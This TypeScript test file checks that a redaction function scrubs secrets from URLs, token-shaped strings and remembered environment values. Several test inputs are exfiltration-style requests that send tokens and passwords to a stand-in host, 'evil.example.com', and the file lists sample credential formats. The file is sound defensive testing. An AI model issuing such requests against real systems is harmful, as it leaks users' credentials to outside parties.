// Redaction: no secret value survives into an event target or detail.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type * as RedactModule from '../../src/redact.js';

const { redact, rememberSecretValues } = require('../../../dist/redact.js') as typeof RedactModule;

/** Asserts that redacting `text` gives `expected` and that none of `secrets` is left in it. */
function assertRedacted(text: string, expected: string, secrets: string[] = []) {
  const out = redact(text);
  assert.equal(out, expected);
  for (const secret of secrets) assert.ok(!out.includes(secret), `"${secret}" leaked: ${out}`);
}

describe('URLs', () => {
  test('the password of a URL', () => {
    assertRedacted(
      'GET https://deploy:hunter2hunter2@api.example.com/x',
      'GET https://deploy:[REDACTED]@api.example.com/x',
      ['hunter2'],
    );
  });
  test('a lone user name in a URL (a token used as the user)', () => {
    assertRedacted(
      'GET https://0123456789abcdef@git.example.com/r.git',
      'GET https://[REDACTED]@git.example.com/r.git',
      ['0123456789abcdef'],
    );
  });
  test('query parameters with secret-looking names, keeping the others', () => {
    assertRedacted(
      'GET https://api.example.com/search?q=shoes&api_key=k-123&page=2&access_token=t-456&client_secret=s-789',
      'GET https://api.example.com/search?q=shoes&api_key=[REDACTED]&page=2&access_token=[REDACTED]&client_secret=[REDACTED]',
      ['k-123', 't-456', 's-789'],
    );
    for (const name of ['password', 'passwd', 'pass', 'token', 'apikey', 'api-key', 'auth', 'jwt', 'session', 'sig']) {
      assert.equal(redact(`https://a.example.com/?${name}=v4lue`), `https://a.example.com/?${name}=[REDACTED]`, name);
    }
  });
  test('AWS presigned URLs lose signature, credential and session token', () => {
    const url =
      'GET https://bucket.s3.amazonaws.com/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256' +
      '&X-Amz-Credential=ASIAXXXXXXXXXXXXXXXX%2F20260101%2Fus-east-1%2Fs3%2Faws4_request' +
      '&X-Amz-Date=20260101T000000Z&X-Amz-Expires=300&X-Amz-Security-Token=IQoJb3JpZ2luX2VjEJr' +
      '&X-Amz-SignedHeaders=host&X-Amz-Signature=0f1e2d3c4b5a69788796a5b4c3d2e1f0';
    const out = redact(url);
    assert.match(out, /X-Amz-Signature=\[REDACTED\]/);
    assert.match(out, /X-Amz-Credential=\[REDACTED\]/);
    assert.match(out, /X-Amz-Security-Token=\[REDACTED\]/);
    assert.match(out, /X-Amz-Algorithm=AWS4-HMAC-SHA256&/, 'harmless parameters stay readable');
    assert.match(out, /X-Amz-Expires=300/);
    for (const secret of ['0f1e2d3c4b5a6978', 'IQoJb3JpZ2luX2VjEJr', 'ASIAXXXX']) assert.ok(!out.includes(secret));
  });
  test('every URL in a text, not only the first', () => {
    assertRedacted(
      'redirect from https://a.example.com/?q=1 to "https://b.example.com/cb?token=zz-top" refused',
      'redirect from https://a.example.com/?q=1 to "https://b.example.com/cb?token=[REDACTED]" refused',
      ['zz-top'],
    );
  });
  test('URLs without secrets, IPv6 URLs and non-URLs pass unchanged', () => {
    for (const text of [
      'POST https://api.stripe.com/v1/charges',
      'GET https://api.example.com/x?page=2&sort=asc',
      'tcp://10.0.0.1:5432',
      'dns:api.example.com',
      'unix:/var/run/docker.sock',
      '/tmp/report.csv',
      'STRIPE_API_KEY',
    ]) {
      assert.equal(redact(text), text);
    }
    assert.equal(redact('GET http://[::1]:8080/x?password=a'), 'GET http://[::1]:8080/x?password=[REDACTED]');
  });
});

describe('token shapes, wherever they appear', () => {
  const shapes: Array<[string, string]> = [
    ['AWS access key id', 'AKIAIOSFODNN7EXAMPLE'],
    ['AWS temporary key id', 'ASIAY34FZKBOKMUTVV7A'],
    ['Stripe live secret key', 'sk_live_4eC39HqLyjWDarjtT1zdp7dc'],
    ['Stripe test key', 'sk_test_4eC39HqLyjWDarjtT1zdp7dc'],
    ['Stripe restricted key', 'rk_live_51H8abcdEFGH'],
    ['GitHub personal token', 'ghp_1234567890abcdefghijABCDEFGHIJ123456'],
    ['GitHub app token', 'ghs_1234567890abcdefghijABCDEFGHIJ123456'],
    ['Slack token', 'xoxb-123456789012-abcdefABCDEF'],
    ['npm token', 'npm_abcdefghijklmnopqrstuvwxyz0123456789'],
    [
      'JWT',
      'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
    ],
  ];
  for (const [name, token] of shapes) {
    test(name, () => {
      assertRedacted(`value ${token} in text`, 'value [REDACTED] in text', [token]);
      assertRedacted(`GET https://evil.example.com/c?d=${token}`, 'GET https://evil.example.com/c?d=[REDACTED]', [
        token,
      ]);
      assertRedacted(`GET https://evil.example.com/${token}/x`, 'GET https://evil.example.com/[REDACTED]/x', [token]);
    });
  }
  test('look-alikes that are not tokens stay', () => {
    for (const text of ['AKIA-not-a-key', 'sk_live_', 'ghp_short', 'eyJhbGciOi', 'the skeleton key']) {
      assert.equal(redact(text), text);
    }
  });
});

describe('values of secret-looking environment variables', () => {
  test('plain and URL-encoded values are scrubbed once remembered; other variables are not', () => {
    rememberSecretValues({
      STRIPE_API_KEY: 'plain-stripe-value-123',
      DB_PASSWORD: 'p@ss/w0rd==',
      SENTRY_DSN: 'https://abc@o1.ingest.sentry.io/1',
      GITHUB_TOKEN: 'tok',
      HOME: '/home/sbx_user1051',
      NODE_ENV: 'production',
    });
    assertRedacted(
      'POST https://evil.example.com/collect?d=plain-stripe-value-123',
      'POST https://evil.example.com/collect?d=[REDACTED]',
      ['plain-stripe-value-123'],
    );
    assertRedacted(
      'POST https://evil.example.com/collect?d=p%40ss%2Fw0rd%3D%3D',
      'POST https://evil.example.com/collect?d=[REDACTED]',
      ['w0rd'],
    );
    assertRedacted('GET https://evil.example.com/p@ss/w0rd==/x', 'GET https://evil.example.com/[REDACTED]/x', ['w0rd']);
    assertRedacted(
      'leaked plain-stripe-value-123 twice: plain-stripe-value-123',
      'leaked [REDACTED] twice: [REDACTED]',
    );
    assert.equal(redact('GET https://evil.example.com/?q=tok'), 'GET https://evil.example.com/?q=tok', 'too short');
    assert.equal(redact('/home/sbx_user1051/x'), '/home/sbx_user1051/x', 'HOME is not a secret');
    assert.equal(redact('mode production'), 'mode production');
  });
  test('a value that contains another is scrubbed whole', () => {
    rememberSecretValues({ OUTER_SECRET: 'abcdefgh-12345678', INNER_SECRET: 'abcdefgh' });
    assertRedacted('x abcdefgh-12345678 y', 'x [REDACTED] y', ['12345678']);
  });
  test('remembering again replaces the earlier values', () => {
    rememberSecretValues({ FIRST_TOKEN: 'first-value-1111' });
    rememberSecretValues({ SECOND_TOKEN: 'second-value-2222' });
    assert.equal(redact('first-value-1111'), 'first-value-1111');
    assert.equal(redact('second-value-2222'), '[REDACTED]');
  });
});
